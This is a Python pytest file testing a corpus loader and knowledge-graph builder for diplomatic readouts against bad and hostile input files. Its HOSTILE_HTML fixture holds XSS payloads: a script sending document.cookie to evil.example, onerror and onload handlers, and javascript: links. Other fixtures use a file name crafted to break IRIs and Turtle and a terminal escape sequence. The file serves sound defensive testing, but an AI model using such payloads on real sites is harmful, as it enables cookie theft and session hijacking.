"""A corpus of bad and unusual files: every one is reported by name with its reason, every good
document reaches the graph, hostile content and names stay inert, and ``--strict`` fails.

The unit tests read files with ``load_corpus`` only (no spaCy); ``test_build_of_bad_corpus``
runs one real ``diplokg build --strict`` with the trained model over all the cases at once.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from rdflib import RDF, Graph, Literal

import diplokg.corpus as corpus_mod
from diplokg.cli import main
from diplokg.corpus import PartialDate, html_to_text, load_corpus, split_front_matter
from diplokg.graph import document_iri
from diplokg.namespace import DK
from diplokg.text import printable

IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0

READOUT = (
    "Secretary of State Daniel Okafor met Foreign Secretary Lucía Benavides in Mexico City on "
    "March 3, 2022.\n\nThey discussed fentanyl trafficking and migration.\n"
)
HOSTILE_HTML = """<!doctype html><html><head><title>Readout &lt;b&gt; | Ministry</title>
<script>document.cookie; fetch('https://evil.example/?c=' + document.cookie)</script>
<style>body { background: url(javascript:alert(1)) }</style></head>
<body onload="alert('onload')"><article>
<p>Minister Tomás Iturbide met Ambassador Grace Whitfield in Monterrey to discuss arms trafficking.</p>
<p>The two sides <img src=x onerror="alert('img')"> agreed to meet again.<script>alert('inline')</script></p>
<p><a href="javascript:alert('link')">Read the statement</a> on <span onclick="steal()">border security</span>.</p>
<iframe src="https://evil.example/frame"></iframe><noscript>NOSCRIPT-TEXT</noscript>
</article></body></html>"""
PAGE_HTML = """<html><head><title>Joint Readout on Security Cooperation | Example Ministry</title>
<meta property="article:published_time" content="2021-10-08T09:30:00Z">
<meta property="og:site_name" content="Example Ministry">
<link rel="canonical" href="https://example.gov/readout"></head>
<body><nav><a href="/">Home</a> | <a href="/news">News</a></nav>
<article><h1>Joint Readout on Security Cooperation</h1>
<p>Secretary Harold Jennings met Secretary Marisol Quintanar in Washington on Friday.</p>
<p>They discussed organized crime, illicit finance and public health.</p>
</article><footer>Copyright Example Ministry</footer></body></html>"""
FRONT_MATTER_MD = """---
title: "Readout of the Security Dialogue"
date: 2020-05-06
publisher: Example Embassy
url: https://example.gov/dialogue
tags:
  - security
---

# Readout

Deputy Secretary Carmen Ayala met Under Secretary Peter Lindqvist in Mérida.
"""
HOSTILE_NAME_TEXT = 'Ambassador Ruth Calloway met Governor Esteban Morales in Tijuana to discuss trade.\n'
#: A document whose name tries to break out of an IRI and out of a Turtle string.
HOSTILE_DOC_NAME = 'evil> "q" \\ x.txt'
ESC_NAME = "esc\x1b[31mred.txt"


def write(folder: Path, name: str, data: bytes | str) -> Path:
    path = folder / name
    if isinstance(data, str):
        path.write_text(data, encoding="utf-8")
    else:
        path.write_bytes(data)
    return path


def reasons(corpus) -> dict[str, str]:
    return {s.file_name: s.reason for s in corpus.skipped}


# --------------------------------------------------------------------------- HTML


def test_html_main_text_title_and_date():
    text, meta = html_to_text(PAGE_HTML)
    assert "Harold Jennings met Secretary Marisol Quintanar" in text
    assert "They discussed organized crime" in text
    # one paragraph per block, separated by a blank line (like the .txt documents)
    assert "Washington on Friday.\n\nThey discussed" in text
    assert meta["title"] == "Joint Readout on Security Cooperation"
    assert PartialDate.parse(meta["published"]) == PartialDate(2021, 10, 8)
    assert meta["publisher"] == "Example Ministry"
    assert meta["url"] == "https://example.gov/readout"


def test_hostile_html_never_reaches_the_text():
    text, _ = html_to_text(HOSTILE_HTML)
    assert "Tomás Iturbide met Ambassador Grace Whitfield" in text
    for bad in ("alert", "cookie", "onerror", "onload", "onclick", "javascript", "evil.example",
                "steal", "NOSCRIPT", "<", ">"):
        assert bad not in text, bad


@pytest.mark.parametrize(
    "html",
    ["", "<html></html>", "<!-- only a comment -->", "<script>alert(1)</script>",
     "<html><body><img src=x onerror=alert(1)></body></html>"],
)
def test_html_without_text_gives_no_text(html):
    text, _ = html_to_text(html)
    assert text.strip() == ""


def test_html_fragment_falls_back_to_visible_text():
    text, meta = html_to_text("Just <b>bold</b> &amp; plain<script>alert(1)</script><br>Second.")
    assert text == "Just bold & plain\n\nSecond.\n"
    assert meta == {}


def test_html_date_from_time_element_and_metadata_csv_wins(tmp_path):
    page = ("<html><head><title>Own Title</title></head><body><article><time datetime='2019-06-07'>"
            "June 7</time><p>" + "The delegations met in Washington to discuss migration. " * 5
            + "</p></article></body></html>")
    write(tmp_path, "a.html", page)
    write(tmp_path, "b.htm", page.replace("Own Title", "Other").replace("Washington", "Ottawa"))
    write(tmp_path, "metadata.csv", "file,title,publisher,published\nb.htm,CSV Title,CSV Pub,2019-06\n")
    corpus = load_corpus(tmp_path)
    assert corpus.warnings == [] and corpus.skipped == []
    a, b = corpus.documents
    assert (a.title, a.published) == ("Own Title", PartialDate(2019, 6, 7))
    assert (b.title, b.publisher, b.published) == ("CSV Title", "CSV Pub", PartialDate(2019, 6))


def test_html_page_without_text_is_skipped(tmp_path):
    write(tmp_path, "good.txt", READOUT)
    write(tmp_path, "blank.html", "<html><head><script>alert(1)</script></head><body></body></html>")
    corpus = load_corpus(tmp_path)
    assert reasons(corpus) == {"blank.html": "empty (no text in the HTML page)"}


# --------------------------------------------------------------------------- front matter


def test_front_matter_feeds_metadata_and_is_stripped(tmp_path):
    write(tmp_path, "fm.md", FRONT_MATTER_MD)
    corpus = load_corpus(tmp_path)
    (doc,) = corpus.documents
    assert corpus.warnings == []
    assert doc.title == "Readout of the Security Dialogue"
    assert doc.published == PartialDate(2020, 5, 6)
    assert doc.publisher == "Example Embassy"
    assert doc.url == "https://example.gov/dialogue"
    assert doc.text.startswith("# Readout\n")
    assert "---" not in doc.text and "tags" not in doc.text


def test_metadata_csv_wins_over_front_matter_field_by_field(tmp_path):
    write(tmp_path, "fm.md", FRONT_MATTER_MD)
    write(tmp_path, "metadata.csv", "file,title,publisher,published\nfm.md,CSV Title,,\n")
    (doc,) = load_corpus(tmp_path).documents
    assert doc.title == "CSV Title"  # metadata.csv
    assert doc.publisher == "Example Embassy"  # front matter fills what the CSV leaves empty
    assert doc.published == PartialDate(2020, 5, 6)


def test_bad_front_matter_date_warns_naming_the_file(tmp_path):
    write(tmp_path, "fm.txt", "---\ntitle: T\npublished: someday soon\n---\nBody text here.\n")
    corpus = load_corpus(tmp_path)
    (doc,) = corpus.documents
    assert doc.published is None and doc.title == "T"
    assert len(corpus.warnings) == 1
    assert corpus.warnings[0].startswith("fm.txt: front matter:") and "someday soon" in corpus.warnings[0]


def test_bad_csv_date_falls_back_to_the_documents_own_date(tmp_path):
    write(tmp_path, "fm.md", FRONT_MATTER_MD)
    write(tmp_path, "metadata.csv", "file,title,publisher,published\nfm.md,,,2020-13-01\n")
    corpus = load_corpus(tmp_path)
    assert corpus.documents[0].published == PartialDate(2020, 5, 6)
    assert len(corpus.warnings) == 1 and "fm.md" in corpus.warnings[0] and "2020-13-01" in corpus.warnings[0]


@pytest.mark.parametrize(
    "text",
    [
        "---\nNot front matter, a paragraph between rules.\n---\nBody.\n",  # not key: value
        "---\ntitle: never closed\n\nBody.\n",  # no closing line
        "Intro\n---\ntitle: not at the start\n---\n",
        "--- \n",
    ],
)
def test_text_that_is_not_front_matter_is_kept_whole(text):
    assert split_front_matter(text) == (text, {})


def test_front_matter_only_file_is_skipped_as_empty(tmp_path):
    write(tmp_path, "only.md", "---\ntitle: Nothing else\n---\n\n")
    assert reasons(load_corpus(tmp_path)) == {"only.md": "empty (front matter only)"}


@pytest.mark.parametrize("value,expected", [
    ("2023-07-24T10:00:00Z", PartialDate(2023, 7, 24)),
    ("'2023-07'", PartialDate(2023, 7)),
    ("2023-07-24 10:00:00+02:00", PartialDate(2023, 7, 24)),
])
def test_parse_published_accepts_iso_datetimes(value, expected):
    assert corpus_mod.parse_published(value) == expected


# --------------------------------------------------------------------------- special files and ids


def test_folder_and_fifo_named_like_documents_are_skipped(tmp_path):
    write(tmp_path, "good.txt", READOUT)
    (tmp_path / "folder.txt").mkdir()
    (tmp_path / "plain-folder").mkdir()  # not named like a document: ignored silently
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "pipe.txt")  # reading it would block the build forever
    corpus = load_corpus(tmp_path)
    expected = {"folder.txt": "a folder, not a file"}
    if hasattr(os, "mkfifo"):
        expected["pipe.txt"] = "not a regular file"
    assert reasons(corpus) == expected


def test_same_stem_documents_get_distinct_ids_and_iris(tmp_path):
    write(tmp_path, "a.txt", READOUT)
    write(tmp_path, "a.html", "<p>Another text about the border.</p>")
    write(tmp_path, "a b.md", "A third text.")
    write(tmp_path, "a-b.txt", "A fourth text.")
    corpus = load_corpus(tmp_path)
    ids = [d.doc_id for d in corpus.documents]
    assert ids == ["a b", "a-b.txt", "a", "a.txt"]
    assert len({document_iri(i) for i in ids}) == 4


def test_printable_escapes_terminal_controls():
    assert printable(ESC_NAME) == "esc\\x1b[31mred.txt"
    assert printable("a\nb\tc\u202ed") == "a\\x0ab\\x09c\\u202ed"
    assert printable("Peña — “ok”") == "Peña — “ok”"


# --------------------------------------------------------------------------- one real build


@pytest.fixture(scope="module")
def bad_corpus(tmp_path_factory):
    root = tmp_path_factory.mktemp("bad-corpus")
    cap = 20_000
    write(root, "good.txt", READOUT)
    write(root, "zcopy.txt", READOUT)  # duplicate of good.txt (later by name)
    write(root, "empty.txt", b"")
    write(root, "binary.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 20)
    write(root, "latin.txt", "Canciller Raúl Peñaloza met Ambassador Jane Holloway in Oaxaca.\n".encode("latin-1"))
    write(root, "wide.txt", "Minister Ana Ibáñez met Secretary Paul Brennan in Ottawa.\n".encode("utf-16"))
    write(root, "huge.txt", ("Secretary Okafor met the delegation. " * 1000)[: cap + 1000])
    write(root, "hostile.html", HOSTILE_HTML)
    write(root, "page.html", PAGE_HTML)
    write(root, "fm.md", FRONT_MATTER_MD)
    write(root, "baddate.md", "---\ndate: 2021-02-30\n---\nGeneral Omar Castillo visited Laredo.\n")
    write(root, HOSTILE_DOC_NAME, HOSTILE_NAME_TEXT)
    write(root, ESC_NAME, b"")  # empty: skipped, and its name is printed
    write(root, "report.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n")
    write(root, "memo.docx", b"PK\x03\x04\x14\x00\x06\x00")
    (root / "folder.txt").mkdir()
    # unreadable: a dangling symlink (works as root too); chmod 000 as well when it can bite
    (root / "dangling.txt").symlink_to(root / "no-such-target.txt")
    if not IS_ROOT:
        write(root, "locked.txt", "Secretary Mayorkas met Secretary Rodríguez.\n").chmod(0)
    write(root, "metadata.csv",
          "file,title,publisher,published\n"
          "good.txt,Readout,Example Ministry,July 2023\n"
          "ghost.txt,Ghost,Nobody,2020-01-01\n")
    expected_skips = {
        "zcopy.txt": "duplicate of good.txt",
        "empty.txt": "empty",
        ESC_NAME: "empty",
        "binary.txt": "binary file (NUL bytes)",
        "huge.txt": "too large (",
        "report.pdf": "unsupported file type .pdf",
        "memo.docx": "unsupported file type .docx",
        "folder.txt": "a folder, not a file",
        "dangling.txt": "cannot be read (No such file or directory)",
    }
    if not IS_ROOT:
        expected_skips["locked.txt"] = "cannot be read (Permission denied)"
    expected_docs = {"good.txt", "latin.txt", "wide.txt", "hostile.html", "page.html", "fm.md",
                     "baddate.md", HOSTILE_DOC_NAME}
    expected_warnings = {  # a piece of each warning, by the file it names
        "latin.txt": "not valid UTF-8",
        "wide.txt": "UTF-16",
        "good.txt": "July 2023",
        "ghost.txt": "not in the corpus",
        "baddate.md": "2021-02-30",
    }
    yield root, cap, expected_skips, expected_docs, expected_warnings
    if not IS_ROOT:
        (root / "locked.txt").chmod(0o644)


@pytest.fixture(scope="module")
def bad_build(bad_corpus, tmp_path_factory):
    root, cap, *_ = bad_corpus
    out = tmp_path_factory.mktemp("bad-out")
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(corpus_mod, "MAX_BYTES", cap)
        result = CliRunner().invoke(main, ["build", "--corpus", str(root), "--out", str(out), "--strict"])
    return result, out


def test_bad_corpus_reports_every_file_with_its_reason(bad_corpus, bad_build):
    _, _, expected_skips, _, expected_warnings = bad_corpus
    result, _ = bad_build
    assert "Traceback" not in result.output
    stderr = result.stderr
    for name, reason in expected_skips.items():
        line = f"skipped {printable(name)}: {reason}"
        assert line in stderr, (line, stderr)
    for name, piece in expected_warnings.items():
        assert re.search(rf"^warning: .*{re.escape(name)}.*{re.escape(piece)}", stderr, re.M), (name, stderr)
    assert "\x1b" not in result.output  # the ESC of the file name is shown escaped
    assert "esc\\x1b[31mred.txt" in stderr


def test_bad_corpus_strict_exits_1(bad_build):
    result, _ = bad_build
    assert result.exit_code == 1, result.output
    assert "--strict" in result.output


def test_bad_corpus_graph_has_every_good_document(bad_corpus, bad_build):
    _, _, _, expected_docs, _ = bad_corpus
    _, out = bad_build
    graph = Graph().parse(out / "graph.ttl")  # also proves the hostile file name did not break Turtle
    names = {str(graph.value(d, DK.fileName)) for d in graph.subjects(RDF.type, DK.Document)}
    assert names == expected_docs
    hostile = next(d for d in graph.subjects(RDF.type, DK.Document)
                   if graph.value(d, DK.fileName) == Literal(HOSTILE_DOC_NAME))
    assert re.fullmatch(r"https://w3id\.org/diplokg/id/document/[a-z0-9-]+", str(hostile))
    # HTML and front-matter metadata reach the graph
    page = next(d for d in graph.subjects(DK.fileName, Literal("page.html")))
    assert str(graph.value(page, DK.title)) == "Joint Readout on Security Cooperation"
    assert str(graph.value(page, DK.published)) == "2021-10-08"
    fm = next(d for d in graph.subjects(DK.fileName, Literal("fm.md")))
    assert str(graph.value(fm, DK.title)) == "Readout of the Security Dialogue"
    assert str(graph.value(fm, DK.published)) == "2020-05-06"
    assert graph.value(next(graph.subjects(DK.fileName, Literal("good.txt"))), DK.published) is None


def test_bad_corpus_hostile_content_is_inert(bad_build):
    _, out = bad_build
    for name in ("graph.ttl", "report.md", "network.html"):
        text = (out / name).read_text(encoding="utf-8")
        # the page's own payloads (network.html inlines vis-network, which has its own alert())
        for bad in ("alert('", "alert(1)", 'onerror="alert', "evil.example", "steal()", "url(javascript"):
            assert bad not in text, (name, bad)
    graph_text = (out / "graph.ttl").read_text(encoding="utf-8")
    assert "Tomás Iturbide" in graph_text or "Grace Whitfield" in graph_text  # the HTML was read


def test_strict_fails_on_a_warning_alone(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    write(corpus, "fm.md", "---\npublished: not-a-date\n---\n" + READOUT)
    run = CliRunner().invoke(main, ["build", "--corpus", str(corpus), "--out", str(tmp_path / "o"), "--strict"])
    assert run.exit_code == 1, run.output
    assert "warning: fm.md: front matter: not a date: 'not-a-date'" in run.stderr
    assert (tmp_path / "o" / "graph.ttl").exists()  # --strict still writes the output
    plain = CliRunner().invoke(main, ["build", "--corpus", str(corpus), "--out", str(tmp_path / "p")])
    assert plain.exit_code == 0, plain.output


@pytest.mark.skipif(not hasattr(os, "fsencode") or os.name != "posix", reason="byte file names are POSIX")
def test_file_name_that_is_not_utf8_is_read_with_a_warning(tmp_path):
    try:
        (Path(os.fsdecode(os.fsencode(tmp_path) + b"/caf\xe9.txt"))).write_text(READOUT, encoding="utf-8")
    except OSError:  # a file system that refuses non-UTF-8 names has nothing to test
        pytest.skip("this file system refuses non-UTF-8 file names")
    corpus = load_corpus(tmp_path)
    (doc,) = corpus.documents
    assert doc.file_name == "caf\ufffd.txt"
    doc.file_name.encode("utf-8")  # can be hashed, cached and written to Turtle
    assert corpus.warnings == ["caf\ufffd.txt: file name is not valid UTF-8; recorded with U+FFFD"]


def test_cli_error_messages_escape_control_characters(tmp_path):
    run = CliRunner().invoke(main, ["build", "--corpus", str(tmp_path / "nope\x1b[2J"), "--out", str(tmp_path / "o")])
    assert run.exit_code == 2
    assert "\x1b" not in run.output
    assert "nope\\x1b[2J" in run.output


def test_html_declared_charset_is_used_without_warning(tmp_path):
    page = ('<html><head><meta charset="iso-8859-1"><title>Peña</title></head><body><article><p>'
            + "Canciller Raúl Peñaloza met Ambassador Jane Holloway in Oaxaca. " * 3 + "</p></article></body></html>")
    write(tmp_path, "latin.html", page.encode("latin-1"))
    write(tmp_path, "undeclared.html",
          page.replace('<meta charset="iso-8859-1">', "").replace("Oaxaca", "Puebla").encode("latin-1"))
    corpus = load_corpus(tmp_path)
    declared, undeclared = corpus.documents
    assert "Raúl Peñaloza" in declared.text and "Raúl Peñaloza" in undeclared.text
    assert corpus.warnings == ["undeclared.html: not valid UTF-8, decoded as Windows-1252/Latin-1"]


def test_broken_utf16_is_skipped_with_a_clear_reason(tmp_path):
    write(tmp_path, "good.txt", READOUT)
    write(tmp_path, "odd.txt", b"\xff\xfe" + "abc".encode("utf-16-le") + b"\x00\xd8")  # lone surrogate
    assert reasons(load_corpus(tmp_path)) == {"odd.txt": "UTF-16 byte order mark but not valid UTF-16"}
